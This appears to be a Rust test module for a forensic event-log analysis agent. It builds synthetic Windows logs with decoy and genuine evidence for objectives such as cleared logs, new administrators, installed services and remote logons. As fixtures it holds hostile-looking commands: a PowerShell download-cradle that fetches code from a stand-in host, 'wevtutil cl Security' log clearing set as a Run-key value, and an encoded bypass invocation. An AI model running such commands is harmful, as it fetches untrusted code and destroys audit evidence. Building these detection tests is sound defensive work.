//! The event log agent: what the computer's logs say.

use super::hives::TIME;
use super::{Folder, Trial, investigated, meeting, shipped};
use crate::support::Place;
use testkit::evtx::{self, Event};

pub(super) const TRIALS: &[Trial] = &[
    Trial { objective: "channels", tempting: logs_of_nothing, answering: security_log },
    Trial { objective: "cleared", tempting: nothing_cleared, answering: cleared_log },
    Trial { objective: "cleared-others", tempting: nothing_else_cleared, answering: cleared_application },
    Trial { objective: "accounts", tempting: accounts_changed, answering: created_account },
    Trial { objective: "administrators", tempting: members_of_others, answering: new_administrator },
    Trial { objective: "odd-programs", tempting: programs_in_their_places, answering: program_of_downloads },
    Trial { objective: "commands", tempting: commands_that_tell_nothing, answering: telling_command },
    Trial { objective: "admin-tools", tempting: tools_by_name_only, answering: admin_tool },
    Trial { objective: "services", tempting: services_that_were_there, answering: installed_service },
    Trial { objective: "detections", tempting: settings_of_defender, answering: detection },
    Trial { objective: "detection-counts", tempting: nothing_counted, answering: detection },
    Trial { objective: "scripts", tempting: scripts_of_programs, answering: fetching_script },
    Trial { objective: "logons", tempting: logons_of_nobody, answering: remote_logon },
    Trial { objective: "failed-logons", tempting: nothing_refused, answering: refused_logon },
];

/// The provider of an event and its log.
struct Writer {
    provider: &'static str,
    guid: Option<&'static str>,
    channel: &'static str,
}

const SECURITY: Writer = Writer {
    provider: "Microsoft-Windows-Security-Auditing",
    guid: Some("{54849625-5478-4994-a5ba-3e3b0328c30d}"),
    channel: "Security",
};
const EVENTLOG: Writer = Writer {
    provider: "Microsoft-Windows-Eventlog",
    guid: Some("{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"),
    channel: "Security",
};
const SERVICES: Writer = Writer {
    provider: "Service Control Manager",
    guid: Some("{555908d1-a6d7-4695-8e1e-26931d2012f4}"),
    channel: "System",
};
const SYSMON: Writer = Writer {
    provider: "Microsoft-Windows-Sysmon",
    guid: Some("{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"),
    channel: "Microsoft-Windows-Sysmon/Operational",
};
const DEFENDER: Writer = Writer {
    provider: "Microsoft-Windows-Windows Defender",
    guid: Some("{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}"),
    channel: "Microsoft-Windows-Windows Defender/Operational",
};
const POWERSHELL: Writer = Writer {
    provider: "Microsoft-Windows-PowerShell",
    guid: Some("{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"),
    channel: "Microsoft-Windows-PowerShell/Operational",
};
/// Suppresses repeated events of the COM+ event system, with an event id that is also used for failed logons.
const EVENT_SYSTEM: Writer = Writer {
    provider: "Microsoft-Windows-EventSystem",
    guid: Some("{899daace-4868-4295-afcd-9eb8fb497561}"),
    channel: "Application",
};
/// The provider that `eventcreate` uses if no source is given.
const EVENTCREATE: Writer = Writer { provider: "EventCreate", guid: None, channel: "System" };
/// A program with its own event source.
const PROGRAM: Writer = Writer { provider: "Ledgerline", guid: None, channel: "Application" };

type Data<'a> = &'a [(&'a str, &'a str)];

const SID: &str = "S-1-5-21-1004-2004-3004-1001";
const SYSTEM32: &str = "C:\\Windows\\System32";

/// A log in the place where Windows keeps it, with one event per second.
fn log(at: &Folder<'_>, events: &[(&Writer, u16, Data<'_>)]) {
    let numbered = (1..).zip(events).map(|(record_id, (writer, event_id, data))| Event {
        record_id,
        time: TIME + record_id * 10_000_000,
        provider: writer.provider,
        guid: writer.guid,
        event_id: *event_id,
        level: 4,
        channel: writer.channel,
        computer: "FIN-WS-07",
        user_sid: None,
        user_data: None,
        data,
    });
    let built: Vec<_> = numbered.collect();
    let channel = events.first().map_or("Application", |(writer, ..)| writer.channel);
    let name = channel.replace('/', "%4");
    at.file(&format!("C/Windows/System32/winevt/Logs/{name}.evtx"), evtx::log(&built));
}

/// A provider given by name only, as any program can write through the old interface.
fn imitated(writer: &Writer) -> Writer {
    Writer { guid: None, ..*writer }
}

/// A log without records, a text file with a log's name, and a folder with a log's name.
fn logs_of_nothing(at: &Folder<'_>) {
    log(at, &[]);
    at.file("C/Windows/System32/winevt/Logs/export/Security.evtx", "Level,Date and Time,Source,Event ID\r\n");
    at.file("C/export/System.evtx/readme.txt", "Security.evtx is kept elsewhere\r\n");
}

fn security_log(at: &Folder<'_>) {
    log(at, &[(&SECURITY, 4634, &[("TargetUserName", "mara"), ("LogonType", "3")])]);
}

/// A log that was only stopped, and events with the right ids from other providers.
fn nothing_cleared(at: &Folder<'_>) {
    log(at, &[(&EVENTLOG, 1100, &[])]);
    let system = Writer { channel: "System", ..imitated(&EVENTLOG) };
    let told = [("SubjectUserName", "mara"), ("Channel", "Security")];
    log(at, &[(&EVENTCREATE, 104, &[("", "The Security log file was cleared.")]), (&system, 104, &told)]);
    log(at, &[(&PROGRAM, 1102, &[("", "The audit log was cleared.")])]);
}

/// A service that entered the running state, and a cleared log that a provider under an imitated name reports.
fn nothing_else_cleared(at: &Folder<'_>) {
    let system = Writer { channel: "System", ..imitated(&EVENTLOG) };
    log(at, &[(&system, 104, &[("Channel", "Application")])]);
    log(at, &[(&SERVICES, 7036, &[("param1", "Spooler"), ("param2", "running")])]);
}

fn cleared_application(at: &Folder<'_>) {
    let system = Writer { channel: "System", ..EVENTLOG };
    log(at, &[(&system, 104, &[("SubjectUserName", "mara"), ("Channel", "Application")])]);
}

fn cleared_log(at: &Folder<'_>) {
    log(at, &[(&EVENTLOG, 1102, &[("SubjectUserName", "mara"), ("SubjectUserSid", SID)])]);
}

const ACCOUNT: Data<'_> = &[
    ("TargetUserName", "backup"),
    ("TargetDomainName", "FIN-WS-07"),
    ("TargetSid", SID),
    ("SubjectUserName", "mara"),
];

/// An account that was changed, disabled, given a password, locked and unlocked, and a creation event
/// from another provider.
fn accounts_changed(at: &Folder<'_>) {
    log(at, &[4738, 4725, 4724, 4723, 4740, 4767].map(|id| (&SECURITY, id, ACCOUNT)));
    log(at, &[(&PROGRAM, 4720, ACCOUNT)]);
}

fn created_account(at: &Folder<'_>) {
    log(at, &[(&SECURITY, 4720, ACCOUNT)]);
}

fn member(group: &str) -> [(&str, &str); 4] {
    [
        ("TargetUserName", group),
        ("TargetDomainName", "Builtin"),
        ("MemberSid", SID),
        ("SubjectUserName", "mara"),
    ]
}

/// A member of other groups, one removed from the administrators, and an addition that another provider reports.
fn members_of_others(at: &Folder<'_>) {
    let administrators = member("Administrators");
    let imitated = imitated(&SECURITY);
    let events: [(&Writer, u16, Data<'_>); 5] = [
        (&SECURITY, 4732, &member("Users")),
        (&SECURITY, 4728, &member("None")),
        (&SECURITY, 4733, &administrators),
        (&SECURITY, 4731, &administrators),
        (&imitated, 4732, &administrators),
    ];
    log(at, &events);
}

fn new_administrator(at: &Folder<'_>) {
    log(at, &[(&SECURITY, 4732, &member("Administrators"))]);
}

fn started<'a>(image: &'a str, line: &'a str) -> [(&'a str, &'a str); 5] {
    [
        ("NewProcessName", image),
        ("CommandLine", line),
        ("NewProcessId", "0x1a2c"),
        ("SubjectUserName", "mara"),
        ("ParentProcessName", "C:\\Windows\\explorer.exe"),
    ]
}

/// A Windows program that opens a user's file, a program that installs itself into profiles, and an odd program that only ended,
/// was written to disk, or opened a connection, or whose start another provider reports.
fn programs_in_their_places(at: &Folder<'_>) {
    const ODD: &str = "C:\\Users\\mara\\Downloads\\setup.exe";
    const DRIVE: &str = "C:\\Users\\mara\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe";
    let notepad = format!("{SYSTEM32}\\notepad.exe");
    let imitated = imitated(&SECURITY);
    log(
        at,
        &[
            (&SECURITY, 4688, &started(&notepad, "notepad.exe C:\\Users\\mara\\Downloads\\setup.exe.txt")),
            (&SECURITY, 4688, &started(DRIVE, "OneDrive.exe /background")),
            (&SECURITY, 4689, &[("ProcessName", ODD), ("ProcessId", "0x1a2c")]),
            (&imitated, 4688, &started(ODD, "setup.exe")),
        ],
    );
    log(
        at,
        &[
            (&SYSMON, 3, &[("Image", ODD), ("ProcessId", "700"), ("DestinationIp", "10.20.4.66")]),
            (&SYSMON, 11, &[("Image", DRIVE), ("ProcessId", "701"), ("TargetFilename", ODD)]),
        ],
    );
}

fn program_of_downloads(at: &Folder<'_>) {
    log(at, &[(&SECURITY, 4688, &started("C:\\Users\\mara\\Downloads\\setup.exe", "setup.exe"))]);
}

/// A harmless command whose parent's command line is suspicious, commands of every Windows start, and a Run value
/// that was written.
fn commands_that_tell_nothing(at: &Folder<'_>) {
    let [viewer, logon, authority] =
        ["notepad.exe", "winlogon.exe", "lsass.exe"].map(|name| format!("{SYSTEM32}\\{name}"));
    log(
        at,
        &[
            (&SECURITY, 4688, &started(&viewer, "notepad.exe C:\\Format 2025.txt")),
            (&SECURITY, 4688, &started(&logon, "winlogon.exe")),
            (&SECURITY, 4688, &started(&authority, "C:\\Windows\\system32\\lsass.exe")),
        ],
    );
    let below = [
        ("Image", viewer.as_str()),
        ("CommandLine", "notepad.exe"),
        ("ProcessId", "700"),
        ("ParentImage", "C:\\Program Files\\Ledgerline\\ledgerline.exe"),
        ("ParentCommandLine", "ledgerline.exe -exec bypass -enc SQBFAFgA"),
    ];
    let key = [
        ("TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"),
        ("Details", "cmd.exe /c wevtutil cl Security"),
        ("Image", viewer.as_str()),
        ("ProcessId", "700"),
    ];
    log(at, &[(&SYSMON, 1, &below), (&SYSMON, 13, &key)]);
}

/// A suspicious command by a program that is not one of the intruders' usual tools and is in its proper place.
fn telling_command(at: &Folder<'_>) {
    let shell = format!("{SYSTEM32}\\cmd.exe");
    log(at, &[(&SECURITY, 4688, &started(&shell, "cmd.exe /c echo iex(1) > \\\\fin-dc-01\\admin$\\a.txt"))]);
}

/// Programs whose names only end like those of tools, and tools that ended or that are mentioned in an argument.
fn tools_by_name_only(at: &Folder<'_>) {
    let notepad = format!("{SYSTEM32}\\notepad.exe");
    log(
        at,
        &[
            (&SECURITY, 4688, &started("C:\\Program Files\\dotnet\\dotnet.exe", "dotnet.exe --info")),
            (&SECURITY, 4688, &started("C:\\Program Files\\Score\\harp.exe", "harp.exe")),
            (&SECURITY, 4688, &started(&notepad, "notepad.exe whoami.exe.txt")),
            (
                &SECURITY,
                4689,
                &[("ProcessName", "C:\\Windows\\System32\\whoami.exe"), ("ProcessId", "0x1a2c")],
            ),
        ],
    );
}

fn admin_tool(at: &Folder<'_>) {
    log(at, &[(&SECURITY, 4688, &started(&format!("{SYSTEM32}\\whoami.exe"), "whoami /groups"))]);
}

const SERVICE: Data<'_> =
    &[("ServiceName", "Updater"), ("ImagePath", "C:\\ProgramData\\update.exe"), ("StartType", "auto start")];

/// A service that was changed, started and terminated, a driver of Windows, and new services that other providers report.
fn services_that_were_there(at: &Folder<'_>) {
    let driver = [("ServiceName", "luafv"), ("ImagePath", "\\SystemRoot\\system32\\drivers\\luafv.sys")];
    let imitated = imitated(&SERVICES);
    log(
        at,
        &[
            (&SERVICES, 7040, &[("param1", "Updater"), ("param2", "demand start"), ("param3", "auto start")]),
            (&SERVICES, 7036, &[("param1", "Updater"), ("param2", "running")]),
            (&SERVICES, 7034, &[("param1", "Updater"), ("param2", "1")]),
            (&SERVICES, 7045, &driver),
            (&imitated, 7045, SERVICE),
            (&EVENTCREATE, 7045, SERVICE),
            (&EVENTCREATE, 745, &[("", "A service was installed in the system. Service Name: Updater")]),
        ],
    );
}

fn installed_service(at: &Folder<'_>) {
    log(at, &[(&SERVICES, 7045, SERVICE)]);
}

const THREAT: Data<'_> = &[
    ("Threat Name", "HackTool:Win32/Example"),
    ("Path", "file:_C:\\Users\\mara\\Downloads\\setup.exe"),
    ("Action Name", "Quarantine"),
];

/// Changed settings, a protection that was switched off, and a threat that another provider reports.
fn settings_of_defender(at: &Folder<'_>) {
    let product = ("Product Name", "Microsoft Defender Antivirus");
    let excluded = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users = 0x0";
    log(
        at,
        &[
            (&DEFENDER, 5007, &[product, ("New Value", excluded)]),
            (&DEFENDER, 5001, &[product]),
            (&DEFENDER, 1001, &[product, ("Scan Type", "Antimalware")]),
        ],
    );
    let imitated = Writer { channel: "Application", ..imitated(&DEFENDER) };
    log(at, &[(&imitated, 1116, THREAT), (&PROGRAM, 1117, THREAT)]);
}

/// Two objectives use this, each in its own folder.
fn detection(at: &Folder<'_>) {
    log(at, &[(&DEFENDER, 1116, THREAT)]);
}

/// A log of scans that found nothing, and another provider's events with the ids of threats, in a folder named after Defender.
fn nothing_counted(at: &Folder<'_>) {
    log(at, &[1000, 1001, 1150, 2000].map(|id| (&DEFENDER, id, &[("Product Name", "Defender")] as Data<'_>)));
    let place = Folder { place: at.place, path: format!("{}/Windows Defender", at.path) };
    log(&place, &[(&PROGRAM, 1116, THREAT), (&PROGRAM, 1117, THREAT)]);
}

fn script<'a>(text: &'a str, path: &'a str) -> [(&'a str, &'a str); 5] {
    [
        ("MessageNumber", "1"),
        ("MessageTotal", "1"),
        ("ScriptBlockText", text),
        ("ScriptBlockId", "5f1c7a52-0f5e-4b0f-9d43-2c1d3d1f7a10"),
        ("Path", path),
    ]
}

const FETCHING: &str = "(New-Object Net.WebClient).DownloadString('http://a.example/')";

/// A user's harmless script, and scripts that belong to programs.
fn scripts_of_programs(at: &Folder<'_>) {
    log(
        at,
        &[
            (&POWERSHELL, 4104, &script("Get-ChildItem", "C:\\Users\\mara\\Documents\\iex.ps1")),
            (&POWERSHELL, 4104, &script(FETCHING, "C:\\Program Files\\Ledgerline\\update.ps1")),
            (&POWERSHELL, 4104, &script(FETCHING, "C:\\Windows\\CCM\\fetch.ps1")),
            (&POWERSHELL, 53504, &[("param1", "700"), ("param2", FETCHING)]),
        ],
    );
}

fn fetching_script(at: &Folder<'_>) {
    log(at, &[(&POWERSHELL, 4104, &script(FETCHING, "C:\\Users\\mara\\Documents\\a.ps1"))]);
}

fn logon<'a>(account: &'a str, logon_type: &'a str) -> [(&'a str, &'a str); 5] {
    [
        ("TargetUserName", account),
        ("TargetUserSid", SID),
        ("TargetLogonId", "0x1a2b"),
        ("LogonType", logon_type),
        ("IpAddress", "10.20.4.66"),
    ]
}

/// Logons over the network, by tasks and services, and by the desktop itself; a logoff; an attempt with explicit credentials;
/// and a logon that another provider reports.
fn logons_of_nobody(at: &Folder<'_>) {
    let imitated = imitated(&SECURITY);
    log(
        at,
        &[
            (&SECURITY, 4624, &logon("mara", "3")),
            (&SECURITY, 4624, &logon("mara", "4")),
            (&SECURITY, 4624, &logon("svc-backup", "5")),
            (&SECURITY, 4624, &logon("DWM-1", "2")),
            (&SECURITY, 4624, &logon("UMFD-0", "2")),
            (&SECURITY, 4634, &logon("mara", "10")),
            (&SECURITY, 4648, &[("TargetUserName", "mara"), ("TargetServerName", "fin-dc-01")]),
            (&imitated, 4624, &logon("mara", "10")),
        ],
    );
}

fn remote_logon(at: &Folder<'_>) {
    log(at, &[(&SECURITY, 4624, &logon("mara", "10"))]);
}

/// The event system's event with this id, a text that says a logon failed, a correct password, and a logon from that address.
fn nothing_refused(at: &Folder<'_>) {
    log(
        at,
        &[
            (&EVENT_SYSTEM, 4625, &[("param1", "86400"), ("param2", "SuppressDuplicateDuration")]),
            (&PROGRAM, 1, &[("", "An account failed to log on. Account Name: mara. Logon Type: 3")]),
        ],
    );
    let checked = [("TargetUserName", "mara"), ("Workstation", "FIN-WS-07"), ("Status", "0x0")];
    log(at, &[(&SECURITY, 4776, &checked), (&SECURITY, 4624, &logon("mara", "3"))]);
}

fn refused_logon(at: &Folder<'_>) {
    log(at, &[(&SECURITY, 4625, &logon("mara", "3"))]);
}

/// Windows also has tools outside System32.
#[test]
fn a_tool_of_windows_beside_system32_runs_from_no_odd_place() {
    let place = Place::new();
    let image = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe";
    log(
        &Folder { place: &place, path: "evidence".to_owned() },
        &[(&SECURITY, 4688, &started(image, "MSBuild.exe ledger.sln"))],
    );
    let (finished, run) = investigated(&place, &shipped("eventlog"), &place.path("evidence"));
    assert_eq!(meeting(&finished, &run, "admin-tools").len(), 1);
    assert!(meeting(&finished, &run, "odd-programs").is_empty());
}
